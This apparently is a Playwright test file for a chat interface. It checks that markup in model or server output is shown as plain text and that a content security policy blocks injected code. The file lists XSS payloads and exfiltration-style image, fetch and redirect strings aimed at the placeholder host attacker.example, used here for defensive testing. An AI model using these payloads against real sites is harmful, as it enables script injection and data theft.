"""What a model or a server says is text: it runs nothing, fetches nothing and stands there as it was written."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Tab
from tests.browser.imitation import PATIENCE_S, Imitation, Script

EVIL = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'></svg>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<style>body { display: none }</style>",
    "[click](javascript:window.hit=1)",
    "<a href='javascript:window.hit=1'>click</a>",
    "![exfil](http://127.0.0.1:9/steal.png?secret)",
    "![exfil](//attacker.example/steal.png)",
    '<meta http-equiv="refresh" content="0;url=http://attacker.example/">',
    "</div></article></main><script>window.hit = 1</script>",
    "&lt;script&gt;window.hit = 1&lt;/script&gt;",
]
SHAPES = ["{}", "**{}**", "`{}`", "- {}", "1. {}", "# {}", "```{}\nx\n```", "```html\n{}\n```"]
FORBIDDEN = "script, img, svg, iframe, style, a, link, meta, object, embed, form, input"


@pytest.mark.parametrize("shape", SHAPES)
def test_markup_in_output_stays_text(tab: Tab, api: Imitation, shape: str) -> None:
    text = "\n\n".join(shape.replace("{}", evil) for evil in EVIL) + "\n"
    api.scripts = [Script(pieces=[text[at : at + 7] for at in range(0, len(text), 7)])]
    tab.open()
    tab.ask(EVIL[0])
    expect(tab.reply).to_have_attribute("aria-busy", "false")
    expect(tab.reply.locator(".bar")).to_be_visible()
    shown = tab.reply.locator(".text").text_content() or ""
    assert [evil for evil in EVIL if evil not in shown] == []
    assert tab.page.get_by_role("log").locator(FORBIDDEN).count() == 0
    assert tab.page.evaluate("window.hit") is None
    assert {urlsplit(url).netloc for url in tab.fetched} == {urlsplit(tab.url).netloc}
    assert {one.path for one in api.asked if one.path.startswith(("/x", "/steal"))} == set()
    assert tab.complaints == []


def test_what_the_server_says_stays_text_too(tab: Tab, api: Imitation) -> None:
    api.models = ["<img src=x onerror='window.hit = 1'>"]
    api.stages = {"<img src=x onerror='window.hit = 1'>": 0.5, "__proto__": 0.1, "decode": "soon", "prefill": -1.0}
    api.scripts = [Script(), Script(pieces=["Hm"], broken=EVIL[1])]
    tab.open()
    tab.ask("one")
    expect(tab.reply.locator(".legend")).to_contain_text(EVIL[1])
    tab.ask("two")
    expect(tab.reply.last.get_by_role("alert")).to_contain_text(EVIL[1])
    assert api.chats[0].body["model"] == EVIL[1]
    assert tab.page.locator("body").locator("img").count() == 0
    assert tab.page.evaluate("window.hit") is None


@pytest.mark.parametrize(
    "attempt",
    [
        "document.head.append(Object.assign(document.createElement('script'), {textContent: 'window.hit = 1'}))",
        "document.body.append(Object.assign(document.createElement('img'), {src: 'http://attacker.example/x.png'}))",
        "document.body.innerHTML += '<p onclick=\"window.hit = 1\">x</p>'; document.querySelector('p[onclick]').click()",
        "fetch('http://attacker.example/').catch(() => null)",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://attacker.example/'}))",
    ],
    ids=["inline script", "foreign image", "event attribute", "foreign fetch", "frame"],
)
def test_the_policy_would_hold_even_if_the_page_were_fooled(tab: Tab, attempt: str) -> None:
    tab.open()
    expect(tab.page.get_by_label("Model")).to_have_value("first-model")
    with tab.page.expect_console_message(lambda message: message.text.startswith("policy: ")):
        tab.page.evaluate(f"() => {{ {attempt} }}")
    assert tab.page.evaluate("window.hit") is None


def test_a_stream_of_garbage_ends_in_words(tab: Tab, api: Imitation) -> None:
    api.scripts = [Script(pieces=["\u202e\u0000\ud83d\ude00 \U0001f600"], broken="")]
    tab.open()
    tab.ask("Hi.")
    expect(tab.reply.get_by_role("alert")).to_contain_text("The connection was lost before the reply ended.")
    expect(tab.page.get_by_role("button", name="Send")).to_be_visible(timeout=1000 * PATIENCE_S)
